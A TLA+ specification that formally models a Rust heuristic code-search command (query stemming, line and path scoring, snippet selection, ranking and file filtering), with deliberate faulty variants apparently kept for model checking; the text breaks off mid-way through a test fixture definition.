---- MODULE Spec2Model ----
(***************************************************************************)
(* The heuristic code search of rtk (src/src/rgai_cmd.rs): run validates   *)
(* its arguments, builds the query model, walks the tree under the root,   *)
(* scores every candidate file, ranks the hits and renders them.           *)
(*                                                                         *)
(* Representation.  A string is a sequence of character codes (ASCII), so  *)
(* that trimming, lowercasing, substring search and byte-wise comparison   *)
(* are computed as the code computes them.  A score (f64 in the code) is   *)
(* an integer number of millionths: 2.4 is 2400000.  Every constant and    *)
(* every product of the scoring arithmetic is a whole number of millionths *)
(* except ln(1+n), which is tabulated to six decimals.  usize and isize    *)
(* are kept at a fixed width (UsizeBits) with wrap-around casts.           *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, Bags, TLC

(***************************************************************************)
(* Strings                                                                 *)
(***************************************************************************)
MinOf(S) == CHOOSE x \in S : \A y \in S : x <= y

\* char::is_whitespace on ASCII: tab, LF, VT, FF, CR, space
IsWs(c) == c \in {9, 10, 11, 12, 13, 32}

IsUpper(c) == c \in 65..90

IsAlpha(c) == c \in 65..90 \/ c \in 97..122

IsDigit(c) == c \in 48..57

\* char::is_alphanumeric on ASCII
IsAlnum(c) == IsAlpha(c) \/ IsDigit(c)

\* char::to_lowercase on ASCII
Lower(c) == IF IsUpper(c) THEN c + 32 ELSE c

\* str::to_lowercase / to_ascii_lowercase
ToLower(s) == [i \in 1..Len(s) |-> Lower(s[i])]

\* str::trim_start
TrimStart(s) ==
    LET nonws == {i \in 1..Len(s) : ~IsWs(s[i])}
    IN  IF nonws = {} THEN <<>> ELSE SubSeq(s, MinOf(nonws), Len(s))

\* str::trim
Trim(s) ==
    LET nonws == {i \in 1..Len(s) : ~IsWs(s[i])}
    IN  IF nonws = {} THEN <<>>
        ELSE SubSeq(s, MinOf(nonws), CHOOSE i \in nonws : \A j \in nonws : j <= i)

\* p occurs in s at index i
HasPrefixAt(s, i, p) ==
    /\ i + Len(p) - 1 <= Len(s)
    /\ \A k \in 1..Len(p) : s[i + k - 1] = p[k]

\* str::starts_with
StartsWith(s, p) == HasPrefixAt(s, 1, p)

\* str::ends_with
EndsWith(s, p) == Len(p) <= Len(s) /\ HasPrefixAt(s, Len(s) - Len(p) + 1, p)

\* str::contains (substring search; the empty pattern is contained in every string)
Contains(s, p) == \E i \in 1..(Len(s) - Len(p) + 1) : HasPrefixAt(s, i, p)

\* Ord for str: byte-wise lexicographic comparison, a <= b
RECURSIVE StrLeq(_, _)
StrLeq(a, b) ==
    IF a = <<>> THEN TRUE
    ELSE IF b = <<>> THEN FALSE
    ELSE IF a[1] # b[1] THEN a[1] < b[1]
    ELSE StrLeq(Tail(a), Tail(b))

\* str::lines: split at LF, a CR before the LF is dropped, no line after a final LF
Lines(s) ==
    LET lf == {i \in 1..Len(s) : s[i] = 10}
        strip(l) == IF l # <<>> /\ l[Len(l)] = 13 THEN SubSeq(l, 1, Len(l) - 1) ELSE l
        RECURSIVE from(_)
        from(start) ==
            IF start > Len(s) THEN <<>>
            ELSE LET later == {i \in lf : i >= start}
                 IN  IF later = {} THEN <<SubSeq(s, start, Len(s))>>
                     ELSE <<strip(SubSeq(s, start, MinOf(later) - 1))>>
                          \o from(MinOf(later) + 1)
    IN  from(1)

\* the lines joined with LF, each line ended by one (how the tree's files are written)
RECURSIVE JoinLines(_)
JoinLines(ls) == IF ls = <<>> THEN <<>> ELSE ls[1] \o <<10>> \o JoinLines(Tail(ls))

(***************************************************************************)
(* Query model                                                             *)
(***************************************************************************)
STOP_WORDS == {
    (* a *) <<97>>, (* an *) <<97, 110>>, (* and *) <<97, 110, 100>>, (* are *) <<97, 114, 101>>, (* as *) <<97, 115>>, (* at *) <<97, 116>>, (* be *) <<98, 101>>, (* by *) <<98, 121>>, (* code *) <<99, 111, 100, 101>>,
    (* file *) <<102, 105, 108, 101>>, (* find *) <<102, 105, 110, 100>>, (* for *) <<102, 111, 114>>, (* from *) <<102, 114, 111, 109>>, (* how *) <<104, 111, 119>>, (* in *) <<105, 110>>, (* is *) <<105, 115>>, (* it *) <<105, 116>>, (* of *) <<111, 102>>,
    (* on *) <<111, 110>>, (* or *) <<111, 114>>, (* search *) <<115, 101, 97, 114, 99, 104>>, (* show *) <<115, 104, 111, 119>>, (* that *) <<116, 104, 97, 116>>, (* the *) <<116, 104, 101>>, (* this *) <<116, 104, 105, 115>>, (* to *) <<116, 111>>,
    (* use *) <<117, 115, 101>>, (* using *) <<117, 115, 105, 110, 103>>, (* what *) <<119, 104, 97, 116>>, (* when *) <<119, 104, 101, 110>>, (* where *) <<119, 104, 101, 114, 101>>, (* with *) <<119, 105, 116, 104>>, (* why *) <<119, 104, 121>> }

\* "ingly", "edly", "ing", "ed", "es", "s", in the order the code tries them
SUFFIXES == << (* ingly *) <<105, 110, 103, 108, 121>>, (* edly *) <<101, 100, 108, 121>>, (* ing *) <<105, 110, 103>>, (* ed *) <<101, 100>>, (* es *) <<101, 115>>, (* s *) <<115>> >>

RECURSIVE SplitFrom(_, _, _, _)
SplitFrom(input, i, current, tokens) ==
    IF i > Len(input)
    THEN IF current # <<>> THEN Append(tokens, current) ELSE tokens
    ELSE IF IsAlnum(input[i]) \/ input[i] = 95
         THEN SplitFrom(input, i + 1, Append(current, Lower(input[i])), tokens)
         ELSE IF current # <<>>
              THEN SplitFrom(input, i + 1, <<>>, Append(tokens, current))
              ELSE SplitFrom(input, i + 1, current, tokens)

split_terms(input) == SplitFrom(input, 1, <<>>, <<>>)

\* a faulty variant of stem_token: only the longest suffix the token ends with is tried
stem_token_LongestOnly(token) ==
    IF \E i \in 1..Len(token) : token[i] > 127 THEN token
    ELSE LET ends == {k \in 1..Len(SUFFIXES) : EndsWith(token, SUFFIXES[k])}
         IN  IF ends = {} \/ Len(token) <= Len(SUFFIXES[MinOf(ends)]) + 2 THEN token
             ELSE SubSeq(token, 1, Len(token) - Len(SUFFIXES[MinOf(ends)]))

stem_token(token) ==
    IF \E i \in 1..Len(token) : token[i] > 127 THEN token
    ELSE LET fit == {k \in 1..Len(SUFFIXES) :
                        Len(token) > Len(SUFFIXES[k]) + 2 /\ EndsWith(token, SUFFIXES[k])}
         IN  IF fit = {} THEN token
             ELSE SubSeq(token, 1, Len(token) - Len(SUFFIXES[MinOf(fit)]))

\* out and seen of push_unique after the call
push_unique(acc, item) ==
    IF item \in acc.seen THEN acc
    ELSE [out |-> Append(acc.out, item), seen |-> acc.seen \cup {item}]

\* a faulty variant of CollectTerms: stop words are kept
RECURSIVE CollectTerms_KeepStopWords(_, _, _)
CollectTerms_KeepStopWords(tokens, i, acc) ==
    IF i > Len(tokens) THEN acc
    ELSE LET token == tokens[i]
             stemmed == stem_token(token)
         IN  IF Len(token) < 2
             THEN CollectTerms_KeepStopWords(tokens, i + 1, acc)
             ELSE LET a1 == push_unique(acc, token)
                      a2 == IF stemmed # token /\ Len(stemmed) >= 2
                            THEN push_unique(a1, stemmed) ELSE a1
                  IN  CollectTerms_KeepStopWords(tokens, i + 1, a2)

\* the loop of build_query_model over the tokens
RECURSIVE CollectTerms(_, _, _)
CollectTerms(tokens, i, acc) ==
    IF i > Len(tokens) THEN acc
    ELSE LET token == tokens[i]
             stemmed == stem_token(token)
         IN  IF Len(token) < 2 \/ token \in STOP_WORDS
             THEN CollectTerms(tokens, i + 1, acc)
             ELSE LET a1 == push_unique(acc, token)
                      a2 == IF stemmed # token /\ Len(stemmed) >= 2
                            THEN push_unique(a1, stemmed) ELSE a1
                  IN  CollectTerms(tokens, i + 1, a2)

\* a faulty variant of build_query_model: the phrase is not taken as a term
build_query_model_NoFallback(query) ==
    LET phrase == ToLower(Trim(query))
        terms == CollectTerms(split_terms(phrase), 1, [out |-> <<>>, seen |-> {}]).out
    IN  [phrase |-> phrase, terms |-> terms]

build_query_model(query) ==
    LET phrase == ToLower(Trim(query))
        terms == CollectTerms(split_terms(phrase), 1, [out |-> <<>>, seen |-> {}]).out
    IN  [phrase |-> phrase,
         terms |-> IF terms = <<>> /\ phrase # <<>> THEN <<phrase>> ELSE terms]

(***************************************************************************)
(* Platform                                                                *)
(***************************************************************************)
\* width of usize and isize in the model: the program's is 64, TLC integers are 32
\* bits wide
UsizeBits == 29

\* std::env::current_dir()
CurrentDir == (* /w *) <<47, 119>>

(***************************************************************************)
(* Machine integers and scores                                             *)
(***************************************************************************)
\* usize::MAX + 1 of the model's usize
UsizeModulus == 2 ^ UsizeBits

\* `x as isize` for a usize x: two's complement reinterpretation
AsIsize(x) == IF x >= UsizeModulus \div 2 THEN x - UsizeModulus ELSE x

\* usize multiplication and addition, wrapping as in a release build
WrapUsize(x) == x % UsizeModulus

\* usize::saturating_mul
SaturatingMul(a, b) ==
    IF b # 0 /\ a > (UsizeModulus - 1) \div b THEN UsizeModulus - 1 ELSE a * b

\* usize::saturating_sub
SaturatingSub(a, b) == IF a > b THEN a - b ELSE 0

Abs(x) == IF x < 0 THEN 0 - x ELSE x

Min2(a, b) == IF a <= b THEN a ELSE b

Max2(a, b) == IF a >= b THEN a ELSE b

\* f64::ln_1p(n) for n = 0, 1, 2, ..., in millionths
LN_1P == <<0, 693147, 1098612, 1386294, 1609438, 1791759, 1945910, 2079442, 2197225>>

ln_1p(n) == LN_1P[n + 1]

\* Option<T>
None == <<>>

Some(x) == <<x>>

(***************************************************************************)
(* Line scorer                                                             *)
(***************************************************************************)
dedup_terms(input) ==
    LET keep == {i \in 1..Len(input) : \A j \in 1..(i - 1) : input[j] # input[i]}
        RECURSIVE pick(_)
        pick(i) == IF i > Len(input) THEN <<>>
                   ELSE IF i \in keep THEN <<input[i]>> \o pick(i + 1) ELSE pick(i + 1)
    IN  pick(1)

\* the positions reachable from i by the optional group (?:word\s+)?
OptionalWord(s, i, word) ==
    {i} \cup
    IF HasPrefixAt(s, i, word) /\ i + Len(word) <= Len(s) /\ IsWs(s[i + Len(word)])
    THEN {MinOf({j \in (i + Len(word))..(Len(s) + 1) : j > Len(s) \/ ~IsWs(s[j])})}
    ELSE {}

DEF_KEYWORDS == { (* fn *) <<102, 110>>, (* def *) <<100, 101, 102>>, (* class *) <<99, 108, 97, 115, 115>>, (* struct *) <<115, 116, 114, 117, 99, 116>>, (* enum *) <<101, 110, 117, 109>>, (* trait *) <<116, 114, 97, 105, 116>>,
                  (* interface *) <<105, 110, 116, 101, 114, 102, 97, 99, 101>>, (* impl *) <<105, 109, 112, 108>>, (* type *) <<116, 121, 112, 101>> }

\* SYMBOL_DEF_RE.is_match(line):
\* ^\s*(?:pub\s+)?(?:async\s+)?(?:fn|def|...|type)\s+[A-Za-z_][A-Za-z0-9_]*
is_symbol_definition(line) ==
    LET s == line
        i0 == MinOf({j \in 1..(Len(s) + 1) : j > Len(s) \/ ~IsWs(s[j])})
        keywordAt(i) ==
            \E kw \in DEF_KEYWORDS :
                /\ HasPrefixAt(s, i, kw)
                /\ i + Len(kw) <= Len(s)
                /\ IsWs(s[i + Len(kw)])
                /\ LET j == MinOf({k \in (i + Len(kw))..(Len(s) + 1) :
                                      k > Len(s) \/ ~IsWs(s[k])})
                   IN  j <= Len(s) /\ (IsAlpha(s[j]) \/ s[j] = 95)
    IN  \E i1 \in OptionalWord(s, i0, (* pub *) <<112, 117, 98>>) :
            \E i2 \in OptionalWord(s, i1, (* async *) <<97, 115, 121, 110, 99>>) : keywordAt(i2)

is_comment_line(line) ==
    LET trimmed == TrimStart(line)
    IN  \/ StartsWith(trimmed, (* // *) <<47, 47>>)
        \/ StartsWith(trimmed, (* # *) <<35>>)
        \/ StartsWith(trimmed, (* * *) <<42>>)
        \/ StartsWith(trimmed, (* /* *) <<47, 42>>)
        \/ StartsWith(trimmed, (* -- *) <<45, 45>>)

\* the score and the matched terms after the loop over query.terms
RECURSIVE MatchTerms(_, _, _, _)
MatchTerms(lower, terms, i, acc) ==
    IF i > Len(terms) THEN acc
    ELSE IF Contains(lower, terms[i])
         THEN MatchTerms(lower, terms, i + 1,
                         [score |-> acc.score + (IF Len(terms[i]) >= 5 THEN 1700000 ELSE 1400000),
                          matched |-> Append(acc.matched, terms[i])])
         ELSE MatchTerms(lower, terms, i + 1, acc)

\* score += bonus under a condition
AddIf(cond, score, bonus) == IF cond THEN score + bonus ELSE score

\* score *= tenths / 10 under a condition
ScaleIf(cond, score, tenths) == IF cond THEN (score * tenths) \div 10 ELSE score

\* a faulty variant of score_line: the definition bonus is added after the scalings
score_line_BonusLast(line_idx, line, query) ==
    LET trimmed == Trim(line)
        lower == ToLower(trimmed)
        s0 == AddIf(Len(query.phrase) >= 3 /\ Contains(lower, query.phrase), 0, 6000000)
        m == MatchTerms(lower, query.terms, 1, [score |-> s0, matched |-> <<>>])
        unique_matches == dedup_terms(m.matched)
        s1 == AddIf(Len(unique_matches) > 1, m.score, 1200000)
        s2 == ScaleIf(is_comment_line(trimmed), s1, 7)
        s3 == ScaleIf(Len(trimmed) > 220, s2, 9)
        s4 == AddIf(is_symbol_definition(trimmed), s3, 2500000)
    IN  IF trimmed = <<>> THEN None
        ELSE IF unique_matches = <<>> THEN None
        ELSE IF s4 < 1200000 THEN None
        ELSE Some([line_idx |-> line_idx, score |-> s4, matched_terms |-> unique_matches])

\* a faulty variant of score_line: a score below 1.2 is kept
score_line_KeepsWeak(line_idx, line, query) ==
    LET trimmed == Trim(line)
        lower == ToLower(trimmed)
        s0 == AddIf(Len(query.phrase) >= 3 /\ Contains(lower, query.phrase), 0, 6000000)
        m == MatchTerms(lower, query.terms, 1, [score |-> s0, matched |-> <<>>])
        unique_matches == dedup_terms(m.matched)
        s1 == AddIf(Len(unique_matches) > 1, m.score, 1200000)
        s2 == AddIf(is_symbol_definition(trimmed), s1, 2500000)
        s3 == ScaleIf(is_comment_line(trimmed), s2, 7)
        s4 == ScaleIf(Len(trimmed) > 220, s3, 9)
    IN  IF trimmed = <<>> THEN None
        ELSE IF unique_matches = <<>> THEN None
        ELSE Some([line_idx |-> line_idx, score |-> s4, matched_terms |-> unique_matches])

score_line(line_idx, line, query) ==
    LET trimmed == Trim(line)
        lower == ToLower(trimmed)
        s0 == AddIf(Len(query.phrase) >= 3 /\ Contains(lower, query.phrase), 0, 6000000)
        m == MatchTerms(lower, query.terms, 1, [score |-> s0, matched |-> <<>>])
        unique_matches == dedup_terms(m.matched)
        s1 == AddIf(Len(unique_matches) > 1, m.score, 1200000)
        s2 == AddIf(is_symbol_definition(trimmed), s1, 2500000)
        s3 == ScaleIf(is_comment_line(trimmed), s2, 7)
        s4 == ScaleIf(Len(trimmed) > 220, s3, 9)
    IN  IF trimmed = <<>> THEN None
        ELSE IF unique_matches = <<>> THEN None
        ELSE IF s4 < 1200000 THEN None
        ELSE Some([line_idx |-> line_idx, score |-> s4, matched_terms |-> unique_matches])

RECURSIVE PathTerms(_, _, _, _)
PathTerms(lower, terms, i, score) ==
    IF i > Len(terms) THEN score
    ELSE PathTerms(lower, terms, i + 1,
                   IF Contains(lower, terms[i]) THEN score + 1200000 ELSE score)

\* a faulty variant of score_path: the terms found in the path are not counted
score_path_PhraseOnly(path, query) ==
    IF Len(query.phrase) >= 3 /\ Contains(ToLower(path), query.phrase) THEN 3500000 ELSE 0

score_path(path, query) ==
    LET lower == ToLower(path)
        s0 == IF Len(query.phrase) >= 3 /\ Contains(lower, query.phrase) THEN 3500000 ELSE 0
    IN  PathTerms(lower, query.terms, 1, s0)

(***************************************************************************)
(* File aggregator                                                         *)
(***************************************************************************)
MAX_SNIPPETS_PER_FILE == 2

MAX_SNIPPET_LINE_LEN == 140

MIN_FILE_SCORE == 2400000

\* if let Some(x) = opt { seq.push(x) }
PushSome(seq, opt) == IF opt = None THEN seq ELSE Append(seq, opt[1])

\* the candidates of content.lines(), in line order
RECURSIVE CandidatesFrom(_, _, _, _)
CandidatesFrom(lines, i, query, acc) ==
    IF i > Len(lines) THEN acc
    ELSE CandidatesFrom(lines, i + 1, query, PushSome(acc, score_line(i - 1, lines[i], query)))

\* the comparator of candidates.sort_by: a sorts strictly before b
CandidateBefore(a, b) ==
    \/ a.score > b.score
    \/ a.score = b.score /\ a.line_idx < b.line_idx

\* slice::sort_by is a stable sort: x goes before the first element it sorts strictly before
RECURSIVE InsertCandidate(_, _)
InsertCandidate(sorted, x) ==
    IF sorted = <<>> THEN <<x>>
    ELSE IF CandidateBefore(x, sorted[1]) THEN <<x>> \o sorted
    ELSE <<sorted[1]>> \o InsertCandidate(Tail(sorted), x)

RECURSIVE SortCandidates(_, _, _)
SortCandidates(cands, i, acc) ==
    IF i > Len(cands) THEN acc
    ELSE SortCandidates(cands, i + 1, InsertCandidate(acc, cands[i]))

overlap_window_Twice(context_lines) == AsIsize(WrapUsize(context_lines * 2))

\* (context_lines * 2 + 1) as isize
overlap_window(context_lines) == AsIsize(WrapUsize(WrapUsize(context_lines * 2) + 1))

\* the closure of selected.iter().any(..): cand overlaps an already selected candidate
overlaps(selected, cand, context_lines) ==
    \E k \in 1..Len(selected) :
        Abs(AsIsize(selected[k].line_idx) - AsIsize(cand.line_idx))
            <= overlap_window(context_lines)

\* the selection loop over the sorted candidates
RECURSIVE SelectFrom(_, _, _, _, _)
SelectFrom(cands, i, selected, context_lines, snippets_per_file) ==
    IF i > Len(cands) THEN selected
    ELSE IF overlaps(selected, cands[i], context_lines)
         THEN SelectFrom(cands, i + 1, selected, context_lines, snippets_per_file)
         ELSE LET sel == Append(selected, cands[i])
              IN  IF Len(sel) >= snippets_per_file THEN sel
                  ELSE SelectFrom(cands, i + 1, sel, context_lines, snippets_per_file)

truncate_chars(input, max_len) ==
    IF Len(input) <= max_len THEN input
    ELSE IF max_len <= 3 THEN (* ... *) <<46, 46, 46>>
    ELSE SubSeq(input, 1, max_len - 3) \o (* ... *) <<46, 46, 46>>

\* the rows pushed by the loop of build_snippet over lines[start..end]
RECURSIVE SnippetRows(_, _, _)
SnippetRows(lines, idx, end) ==
    IF idx >= end THEN <<>>
    ELSE LET cleaned == Trim(lines[idx + 1])
         IN  IF cleaned = <<>> THEN SnippetRows(lines, idx + 1, end)
             ELSE <<<<idx + 1, truncate_chars(cleaned, MAX_SNIPPET_LINE_LEN)>>>>
                  \o SnippetRows(lines, idx + 1, end)

build_snippet(lines, candidate, context_lines) ==
    IF lines = <<>>
    THEN [lines |-> <<<<candidate.line_idx + 1, <<>>>>>>,
          matched_terms |-> candidate.matched_terms]
    ELSE LET start == SaturatingSub(candidate.line_idx, context_lines)
             end == Min2(WrapUsize(candidate.line_idx + context_lines + 1), Len(lines))
             rendered_lines == SnippetRows(lines, start, end)
         IN  [lines |-> IF rendered_lines = <<>>
                        THEN <<<<candidate.line_idx + 1, <<>>>>>>
                        ELSE rendered_lines,
              matched_terms |-> candidate.matched_terms]

\* the candidates of a file, sorted as analyze_file sorts them
SortedCandidates(content, query) ==
    SortCandidates(CandidatesFrom(Lines(content), 1, query, <<>>), 1, <<>>)

\* the candidates analyze_file selects as snippet anchors
SelectedCandidates(content, query, context_lines, snippets_per_file) ==
    SelectFrom(SortedCandidates(content, query), 1, <<>>, context_lines, snippets_per_file)

\* path_score + ln(1 + candidates.len()) + the selected scores weighted by rank
FileScore(path_score, n_candidates, selected) ==
    LET weight(idx) == IF idx = 0 THEN 100 ELSE IF idx = 1 THEN 45 ELSE 25
        RECURSIVE sum(_)
        sum(k) == IF k > Len(selected) THEN 0
                  ELSE (selected[k].score * weight(k - 1)) \div 100 + sum(k + 1)
    IN  path_score + ln_1p(n_candidates) + sum(1)

\* a faulty variant of AggregateFile: the aggregate is not compared with MIN_FILE_SCORE
AggregateFile_NoFloor(path, lines, candidates, path_score, context_lines, snippets_per_file) ==
    LET selected == SelectFrom(candidates, 1, <<>>, context_lines, snippets_per_file)
        snippets == [k \in 1..Len(selected) |-> build_snippet(lines, selected[k], context_lines)]
        file_score == FileScore(path_score, Len(candidates), selected)
    IN  IF candidates = <<>> /\ path_score < MIN_FILE_SCORE THEN None
        ELSE IF selected = <<>> THEN None
        ELSE Some([path |-> path, score |-> file_score,
                   matched_lines |-> Len(candidates), snippets |-> snippets])

AggregateFile_PathOnly(path, lines, candidates, path_score, context_lines, snippets_per_file) ==
    LET selected == SelectFrom(candidates, 1, <<>>, context_lines, snippets_per_file)
        snippets == [k \in 1..Len(selected) |-> build_snippet(lines, selected[k], context_lines)]
        file_score == FileScore(path_score, Len(candidates), selected)
    IN  IF candidates = <<>> /\ path_score < MIN_FILE_SCORE THEN None
        ELSE IF file_score < MIN_FILE_SCORE THEN None
        ELSE Some([path |-> path, score |-> file_score,
                   matched_lines |-> Len(candidates), snippets |-> snippets])

\* analyze_file from the selection loop on, given the sorted candidates and the path score
AggregateFile(path, lines, candidates, path_score, context_lines, snippets_per_file) ==
    LET selected == SelectFrom(candidates, 1, <<>>, context_lines, snippets_per_file)
        snippets == [k \in 1..Len(selected) |-> build_snippet(lines, selected[k], context_lines)]
        file_score == FileScore(path_score, Len(candidates), selected)
    IN  IF candidates = <<>> /\ path_score < MIN_FILE_SCORE THEN None
        ELSE IF selected = <<>> THEN None
        ELSE IF file_score < MIN_FILE_SCORE THEN None
        ELSE Some([path |-> path, score |-> file_score,
                   matched_lines |-> Len(candidates), snippets |-> snippets])

analyze_file(path, content, query, context_lines, snippets_per_file) ==
    AggregateFile(path, Lines(content), SortedCandidates(content, query),
                  score_path(path, query), context_lines, snippets_per_file)

(***************************************************************************)
(* Ranker                                                                  *)
(***************************************************************************)
\* a faulty variant of HitBefore: ties are broken by the path as written, not lowercased
HitBefore_CaseSensitive(a, b) ==
    \/ a.score > b.score
    \/ /\ a.score = b.score
       /\ a.path # b.path
       /\ StrLeq(a.path, b.path)

\* the comparator of outcome.hits.sort_by: a sorts strictly before b
HitBefore(a, b) ==
    \/ a.score > b.score
    \/ /\ a.score = b.score
       /\ ToLower(a.path) # ToLower(b.path)
       /\ StrLeq(ToLower(a.path), ToLower(b.path))

RECURSIVE InsertHit(_, _)
InsertHit(sorted, x) ==
    IF sorted = <<>> THEN <<x>>
    ELSE IF HitBefore(x, sorted[1]) THEN <<x>> \o sorted
    ELSE <<sorted[1]>> \o InsertHit(Tail(sorted), x)

RECURSIVE SortHits(_, _, _)
SortHits(hits, i, acc) ==
    IF i > Len(hits) THEN acc
    ELSE SortHits(hits, i + 1, InsertHit(acc, hits[i]))

\* "{}:{}:{}\n" for every row of the first 60 hits; the line number is kept as a number
build_raw_output(hits) ==
    LET RECURSIVE rows(_, _)
        rows(h, k) ==
            IF k > Len(hits[h].snippets) THEN <<>>
            ELSE [r \in 1..Len(hits[h].snippets[k].lines) |->
                     <<hits[h].path, hits[h].snippets[k].lines[r][1],
                       hits[h].snippets[k].lines[r][2]>>] \o rows(h, k + 1)
        RECURSIVE all(_)
        all(h) == IF h > Min2(Len(hits), 60) THEN <<>> ELSE rows(h, 1) \o all(h + 1)
    IN  all(1)

(***************************************************************************)
(* File walker and filter                                                  *)
(***************************************************************************)
\* Path::extension as a lowercased string, "" when there is none
Extension(path) ==
    LET slashes == {i \in 1..Len(path) : path[i] = 47}
        name == IF slashes = {} THEN path
                ELSE SubSeq(path, (CHOOSE i \in slashes : \A j \in slashes : j <= i) + 1,
                            Len(path))
        dots == {i \in 2..Len(name) : name[i] = 46}
    IN  IF dots = {} THEN <<>>
        ELSE ToLower(SubSeq(name, (CHOOSE i \in dots : \A j \in dots : j <= i) + 1, Len(name)))

UNSUPPORTED_EXT == {
    (* png *) <<112, 110, 103>>, (* jpg *) <<106, 112, 103>>, (* jpeg *) <<106, 112, 101, 103>>, (* gif *) <<103, 105, 102>>, (* webp *) <<119, 101, 98, 112>>, (* ico *) <<105, 99, 111>>, (* pdf *) <<112, 100, 102>>, (* zip *) <<122, 105, 112>>, (* gz *) <<103, 122>>,
    (* tar *) <<116, 97, 114>>, (* 7z *) <<55, 122>>, (* mp3 *) <<109, 112, 51>>, (* mp4 *) <<109, 112, 52>>, (* mov *) <<109, 111, 118>>, (* db *) <<100, 98>>, (* sqlite *) <<115, 113, 108, 105, 116, 101>>, (* woff *) <<119, 111, 102, 102>>,
    (* woff2 *) <<119, 111, 102, 102, 50>>, (* ttf *) <<116, 116, 102>>, (* otf *) <<111, 116, 102>>, (* lock *) <<108, 111, 99, 107>>, (* jar *) <<106, 97, 114>>, (* class *) <<99, 108, 97, 115, 115>>, (* wasm *) <<119, 97, 115, 109>> }

is_supported_text_file(path) == Extension(path) \notin UNSUPPORTED_EXT

\* str::trim_start_matches for a pattern that is removed as often as it leads
RECURSIVE TrimStartMatches(_, _)
TrimStartMatches(s, p) ==
    IF p # <<>> /\ StartsWith(s, p)
    THEN TrimStartMatches(SubSeq(s, Len(p) + 1, Len(s)), p)
    ELSE s

matches_file_type(path, file_type) ==
    LET wanted == ToLower(TrimStartMatches(file_type, (* . *) <<46>>))
        ext == Extension(path)
    IN  IF wanted = <<>> THEN TRUE
        ELSE IF wanted \in {(* rust *) <<114, 117, 115, 116>>, (* rs *) <<114, 115>>} THEN ext = (* rs *) <<114, 115>>
        ELSE IF wanted \in {(* python *) <<112, 121, 116, 104, 111, 110>>, (* py *) <<112, 121>>} THEN ext = (* py *) <<112, 121>>
        ELSE IF wanted \in {(* javascript *) <<106, 97, 118, 97, 115, 99, 114, 105, 112, 116>>, (* js *) <<106, 115>>}
             THEN ext \in {(* js *) <<106, 115>>, (* jsx *) <<106, 115, 120>>, (* mjs *) <<109, 106, 115>>, (* cjs *) <<99, 106, 115>>}
        ELSE IF wanted \in {(* typescript *) <<116, 121, 112, 101, 115, 99, 114, 105, 112, 116>>, (* ts *) <<116, 115>>} THEN ext \in {(* ts *) <<116, 115>>, (* tsx *) <<116, 115, 120>>}
        ELSE IF wanted = (* go *) <<103, 111>> THEN ext = (* go *) <<103, 111>>
        ELSE IF wanted = (* java *) <<106, 97, 118, 97>> THEN ext = (* java *) <<106, 97, 118, 97>>
        ELSE IF wanted = (* c *) <<99>> THEN ext \in {(* c *) <<99>>, (* h *) <<104>>}
        ELSE IF wanted \in {(* cpp *) <<99, 112, 112>>, (* c++ *) <<99, 43, 43>>}
             THEN ext \in {(* cc *) <<99, 99>>, (* cpp *) <<99, 112, 112>>, (* cxx *) <<99, 120, 120>>, (* hpp *) <<104, 112, 112>>, (* hh *) <<104, 104>>, (* hxx *) <<104, 120, 120>>}
        ELSE IF wanted \in {(* markdown *) <<109, 97, 114, 107, 100, 111, 119, 110>>, (* md *) <<109, 100>>} THEN ext \in {(* md *) <<109, 100>>, (* mdx *) <<109, 100, 120>>}
        ELSE IF wanted = (* json *) <<106, 115, 111, 110>> THEN ext = (* json *) <<106, 115, 111, 110>>
        ELSE ext = wanted

looks_binary(bytes) == \E i \in 1..Min2(Len(bytes), 4096) : bytes[i] = 0

\* Path::strip_prefix: the rest of path under base, None when path is not under it
StripPrefix(path, base) ==
    IF path = base THEN Some(<<>>)
    ELSE IF StartsWith(path, base \o <<47>>)
         THEN Some(SubSeq(path, Len(base) + 2, Len(path)))
         ELSE None

compact_display_path(path, root) ==
    LET byRoot == StripPrefix(path, root)
        byCwd == StripPrefix(path, CurrentDir)
        rel == IF byRoot # None THEN byRoot[1]
               ELSE IF byCwd # None THEN byCwd[1] ELSE path
    IN  TrimStartMatches(rel, (* ./ *) <<46, 47>>)

\* str::split('/')
RECURSIVE SplitSlash(_, _, _)
SplitSlash(s, i, current) ==
    IF i > Len(s) THEN <<current>>
    ELSE IF s[i] = 47 THEN <<current>> \o SplitSlash(s, i + 1, <<>>)
    ELSE SplitSlash(s, i + 1, Append(current, s[i]))

compact_path(path) ==
    LET parts == SplitSlash(path, 1, <<>>)
    IN  IF Len(path) <= 58 THEN path
        ELSE IF Len(parts) <= 3 THEN path
        ELSE parts[1] \o (* /.../ *) <<47, 46, 46, 46, 47>> \o parts[Len(parts) - 1] \o (* / *) <<47>> \o parts[Len(parts)]

(***************************************************************************)
(* Bounds of the model and the environment of a run                        *)
(***************************************************************************)
\* context_lines ranges over 0..MaxContext and the one value BigContext
MaxContext == 1

\* max_file_kb ranges over 0..MaxFileKb
MaxFileKb == 1

\* verbose ranges over 0..MaxVerbose
MaxVerbose == 1

\* max_results ranges over 0..MaxResults
MaxResults == 2

\* a context_lines for which 2 * context_lines + 1 exceeds isize::MAX
BigContext == 2 ^ (UsizeBits - 2)

\* the root directory that exists and the path that does not
RootDir == (* r *) <<114>>

MissingDir == (* nx *) <<110, 120>>

\* the query strings a run is given
Queries == { <<>>, <<32, 32>>, (*  Refresh Tokens  *) <<32, 82, 101, 102, 114, 101, 115, 104, 32, 84, 111, 107, 101, 110, 115, 32>>, (* token *) <<116, 111, 107, 101, 110>> }

\* the file_type filters a run is given
FileTypes == { None, Some((* rust *) <<114, 117, 115, 116>>) }

\* an entry the walker yields: a walk error, or a path with what the file system
\* answers for it.  bytes is what fs::read returns, len what fs::metadata reports;
\* a file longer than its bytes continues with blanks.
ErrorEntry(id) ==
    [id |-> id, err |-> TRUE, is_file |-> FALSE, path |-> <<>>, meta_ok |-> FALSE,
     len |-> 0, read_ok |-> FALSE, bytes |-> <<>>]

DirEntry(id, path) ==
    [id |-> id, err |-> FALSE, is_file |-> FALSE, path |-> path, meta_ok |-> TRUE,
     len |-> 0, read_ok |-> FALSE, bytes |-> <<>>]

FileEntry(id, path, bytes) ==
    [id |-> id, err |-> FALSE, is_file |-> TRUE, path |-> path, meta_ok |-> TRUE,
     len |-> Len(bytes), read_ok |-> TRUE, bytes |-> bytes]

AuthSource == JoinLines(<< (* pub fn refresh_token() { *) <<112, 117, 98, 32, 102, 110, 32, 114, 101, 102, 114, 101, 115, 104, 95, 116, 111, 107, 101, 110, 40, 41, 32, 123>>,
                           (*   let tokens = 1 *) <<32, 32, 108, 101, 116, 32, 116, 111, 107, 101, 110, 115, 32, 61, 32, 49>>,
                           <<>>,
